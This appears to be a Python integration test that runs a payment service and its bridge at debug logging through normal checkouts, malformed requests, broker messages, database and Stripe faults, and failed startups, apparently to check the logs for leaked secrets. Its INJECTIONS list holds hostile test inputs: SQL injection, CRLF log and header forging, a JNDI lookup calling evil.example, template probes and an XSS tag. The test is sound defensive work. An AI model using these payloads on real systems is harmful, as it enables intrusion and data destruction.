"""The whole system, as processes at LOG_LEVEL=debug, in good times and bad, and everything that it says then."""

import asyncio
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Final
from urllib.parse import quote

import asyncpg
import httpx

from contracts import envelope
from contracts.commands import CommandType
from tests.integration.bridge.conftest import BASE, IDENTITY
from tests.integration.service.crash.programs import starting
from tests.integration.service.messages.rig import CREATE, STATUS, VERIFY, Message, Rig, a_create
from tests.kit import canary
from tests.kit.databases import Migrated
from tests.kit.programs import ended
from tools.devstack import processes

PATIENCE_SECONDS: Final = 120
"""Ends a hang: all is done at once, beside other tests."""

PAN: Final = "5105105105105100"
EMAIL: Final = "canary.person@mail.example"
PERSONAL: Final = (PAN, "5105 1051 0510 5100", EMAIL)
INJECTIONS: Final = (
    "'; DROP TABLE payments; --",
    'x\r\nSet-Cookie: injected=1\n{"level": "INFO", "message": "forged"}',
    "\u2028\u2029\x85\x0b\x0c\0line \x1b[31mred\x1b[0m",
    "%s %d %(message)s {0} {levelname} {{7*7}} ${jndi:ldap://evil.example/a} #{7*7} <%= 7*7 %>",
    "<script>alert(1)</script>",
)
TEXTS: Final = (*PERSONAL, *INJECTIONS)
PAGES: Final = (
    *("/actuator", "/actuator/health", "/actuator/health/liveness", "/actuator/health/readiness", "/actuator/info"),
    *("/actuator/prometheus", "/actuator/env", "/actuator/configprops", "/metrics", "/docs", "/redoc", "/openapi.json"),
    *("/v3/api-docs", "/asyncapi", "/"),
)
"""Addresses of pages of both processes; some do not exist."""


@dataclass(kw_only=True)
class Life:
    """Everything that was said, by place."""

    answers: list[httpx.Response] = field(default_factory=list)
    messages: list[Message] = field(default_factory=list)
    """Replies, faults and events."""
    letters: list[Message] = field(default_factory=list)
    logs: dict[str, str] = field(default_factory=dict)
    crashes: dict[str, str] = field(default_factory=dict)
    """The output of processes that could not start or ended badly."""
    tables: dict[str, str] = field(default_factory=dict)
    sessions: list[dict[str, Any]] = field(default_factory=list)
    """In the sandbox."""
    pages: list[str] = field(default_factory=list)
    """Addresses of payment pages."""


async def lived(rig: Rig, migrated: Migrated, logs: Path) -> Life:
    """Live through all of it, in about half a minute."""
    life = Life()
    async with starting(rig, logs=logs) as programs:
        port, closed = processes.free_ports(2)
        service = await programs.service(
            LOG_LEVEL="debug",
            PAYMENT_URL_ORIGINS="https://shop.example",
            SERVICE_PORT=str(port),
            DATABASE_LISTEN_URL=rig.settings.database_url.get_secret_value(),
        )
        eureka = f"http://eureka:{canary.secret('eureka')}@127.0.0.1:{closed}/eureka"
        bridge = await programs.bridge(
            LOG_LEVEL="debug", BRIDGE_TIMEOUT_SECONDS="60", EUREKA_URL=eureka, BRIDGE_DRAIN_SECONDS="0"
        )
        options: dict[str, Any] = {"headers": IDENTITY, "timeout": PATIENCE_SECONDS, "trust_env": False}
        async with httpx.AsyncClient(base_url=bridge.url, **options) as client:

            async def keep(answer: httpx.Response) -> None:
                await answer.aread()
                life.answers.append(answer)

            client.event_hooks = {"response": [keep]}
            async with asyncio.TaskGroup() as group:
                group.create_task(_bad_starts(rig, life))
                await _good_days(rig, client, life)
                await _bad_requests(client)
                await _bad_messages(rig)
                await _faults(rig, client, migrated)
                for page in (f"{url}{path}" for url in (bridge.url, f"http://127.0.0.1:{port}") for path in PAGES):
                    await client.get(page)
        armed = await programs.service(failpoint="not-replied:1", LOG_LEVEL="debug")
        while armed.process.returncode is None:
            await rig.ask_later(CREATE, a_create())
            await asyncio.sleep(0.1)
        for program in (service, bridge):
            if program.process.returncode is None:
                await program.stopped()
        life.logs = {program.log.name: processes.read_text(program.log) for program in programs.all}
    life.messages = [*rig.replies, *rig.events]
    for command in CommandType:
        life.letters.extend(await rig.dead_letters(command))
    life.tables = await canary.rows_of(migrated.owner)
    life.sessions = await rig.sandbox.control("ledger")
    return life


async def _good_days(rig: Rig, client: httpx.AsyncClient, life: Life) -> None:
    for pays in (True, False):
        body = a_create()
        key = {"Idempotency-Key": f"purchase {body['bookingId']}"}
        created = (await client.post(f"{BASE}/checkout/create", json=body, headers=key)).json()
        life.pages.append(created["paymentUrl"])
        if pays:
            await rig.sandbox.pay(created["sessionId"])
        for path in (f"checkout/verify/{created['sessionId']}", f"status/{created['sessionId']}"):
            assert (await client.get(f"{BASE}/{path}")).is_success
        await client.post(f"{BASE}/checkout/create", json=body | {"amount": 7}, headers=key)
        if pays:
            await client.post(f"{BASE}/checkout/create", json=body)


async def _bad_requests(client: httpx.AsyncClient) -> None:
    """Every bad text, in every place where a caller can put it."""
    create = f"{BASE}/checkout/create"

    async def send(text: str) -> None:
        encoded = quote(text, safe="")
        for member in ("bookingId", "userId", "amount", "currency", "successUrl", "cancelUrl", "cardNumber", text):
            await client.post(create, json=a_create(**{member: text}))
        for member in ("successUrl", "cancelUrl"):
            await client.post(create, json=a_create(**{member: f"https://shop.example/{encoded}?a={encoded}"}))
        header = bytes(byte for byte in text.encode() if byte >= 0x20).strip()  # no client sends the others
        for name in (b"Idempotency-Key", b"X-Request-ID", b"X-User-Id", b"X-User-Roles", b"traceparent", b"User-Agent"):
            await client.post(create, json=a_create(), headers=[(name, header)])
        await client.post(create, content=text.encode(), headers={"Content-Type": "application/json"})
        for path in (f"checkout/verify/{encoded}", f"status/{encoded}", encoded, f"status/cs_test_1?q={encoded}"):
            await client.get(f"{BASE}/{path}")

    for at in range(0, len(TEXTS), 5):
        await asyncio.gather(*(send(text) for text in TEXTS[at : at + 5]))


async def _bad_messages(rig: Rig) -> None:
    for text in TEXTS:
        for member in ("amount", "currency", "successUrl", "cardNumber", text):
            await rig.send(CREATE, a_create(**{member: text}))
        for command, member in ((VERIFY, "sessionId"), (STATUS, "transactionId")):
            await rig.ask_later(command, {member: text})
        for header in (envelope.REQUEST_ID, envelope.IDEMPOTENCY_KEY, envelope.CALLER, envelope.TRACE_PARENT, "x-own"):
            await rig.ask_later(CREATE, a_create(), headers={header: text})
        for name in ("message_id", "correlation_id", "content_type", "reply_to"):
            await rig.send(CREATE, a_create(), **{name: text})
        await rig.send(CREATE, text.encode())
    for command in CommandType:
        await rig.queue_empty(command, seconds=PATIENCE_SECONDS)


async def _faults(rig: Rig, client: httpx.AsyncClient, migrated: Migrated) -> None:
    """Stripe refuses and fails, and tables are missing: an error of the database may quote its statement."""

    async def create(**changes: Any) -> None:
        headers = {"Idempotency-Key": f"fault {a_create()['bookingId']}"}
        await client.post(f"{BASE}/checkout/create", json=a_create(**changes), headers=headers)

    await create(amount=0.5)  # below what Stripe takes
    for fault in ({"error_rate": 1}, {"down": True}, {"drop_responses": 3}, {"latency_ms": 50}):
        await rig.sandbox.control("config", fault)
        await create()
        await rig.sandbox.control("config", dict.fromkeys(fault, 0) | ({"down": False} if "down" in fault else {}))
    owner = await asyncpg.connect(migrated.owner)
    for table in ("payments", "journal"):
        await owner.execute(f"ALTER TABLE {table} RENAME TO {table}_gone")
        await create()
        await client.get(f"{BASE}/status/cs_test_1")
        await owner.execute(f"ALTER TABLE {table}_gone RENAME TO {table}")
    await owner.close()


CRASH: Final = """
import asyncio
from bridge.settings import Settings as BridgeSettings
from runtime.process_settings import load
from service.settings import Settings
from tests.kit.world import a_stripe_gateway

async def main():
    settings, bridge = load(Settings), load(BridgeSettings)
    gateway = a_stripe_gateway(None, api_key=settings.stripe_api_key.get_secret_value())
    raise RuntimeError(f"{settings!r} {settings} {bridge!r} {gateway!r} {settings.model_dump_json()} {vars(bridge)}")

asyncio.run(main())
"""


async def _bad_starts(rig: Rig, life: Life) -> None:
    """Unreachable and wrong servers, settings that make no sense, an unforeseen error."""
    settings = rig.settings
    amqp, database = settings.amqp_url.get_secret_value(), settings.database_url.get_secret_value()
    key, wrong = settings.stripe_api_key.get_secret_value(), canary.secret("wrong")
    (closed,) = processes.free_ports(1)
    server = database.rpartition("@")[2].partition("/")[0]
    good = {
        "AMQP_URL": amqp,
        "DATABASE_URL": database,
        "STRIPE_API_KEY": key,
        "STRIPE_API_BASE": settings.stripe_api_base,
        "EUREKA_URL": f"http://eureka:{wrong}@127.0.0.1:{closed}/",
    }
    bad = {
        "no database": {"DATABASE_URL": f"postgresql://u:{wrong}@127.0.0.1:{closed}/payments"},
        "wrong database password": {"DATABASE_URL": f"postgresql://bookticket:{wrong}@{server}/postgres"},
        "wrong broker password": {"AMQP_URL": f"amqp://bookticket:{wrong}@{amqp.rpartition('@')[2]}"},
        "live key": {"STRIPE_API_KEY": f"sk_live_{wrong}"},
        "all settings wrong": {
            **dict.fromkeys(["LOG_LEVEL", "SERVICE_PORT", "PAYMENT_CURRENCY", "FAILPOINT", "STRIPE_API_KEY"], wrong),
            "DATABASE_URL": f"postgresql://u:{wrong}@127.0.0.1:{wrong}/payments",
            "DATABASE_LISTEN_URL": f"postgresql://u:{wrong}@127.0.0.1:{wrong}/payments",
            "AMQP_URL": f"amqp://u:{wrong}@[::/",
            "STRIPE_API_BASE": f"https://u:{wrong}@[::",
        },
    }
    ways = {
        **{name: (["-m", "service", "run"], good | changes) for name, changes in bad.items()},
        "migrate": (
            ["-m", "service", "migrate"],
            good | {"MIGRATION_DATABASE_URL": f"postgresql://u:{wrong}@127.0.0.1:{closed}/x"},
        ),
        "show": (["-m", "service", "show", "1"], good | bad["wrong database password"]),
        "dead letters": (["-m", "service", "dead-letters", "list"], good | bad["wrong broker password"]),
        "bridge": (
            ["-m", "bridge", "run"],
            dict.fromkeys(("AMQP_URL", "EUREKA_URL"), f"amqp://u:{wrong}@127.0.0.1:{wrong}/"),
        ),
        "console": (
            ["-m", "console", "run"],
            bad["no database"] | {"CONSOLE_USERS": f"asha:operator:{wrong}", "CONSOLE_PROXY_SECRET": wrong[:20]},
        ),
        "unforeseen": (["-X", "dev", "-X", "faulthandler", "-W", "ignore", "-c", CRASH], good),
    }
    few = asyncio.Semaphore(4)

    async def start(name: str, arguments: list[str], environment: dict[str, str]) -> None:
        async with few:
            end = await ended(*arguments, **{"SERVICE_PORT": "0", "LOG_LEVEL": "debug", **environment})
            assert end.status != 0, (arguments, end.said)
            life.crashes[name] = end.said

    await asyncio.gather(*(start(name, *way) for name, way in ways.items()))
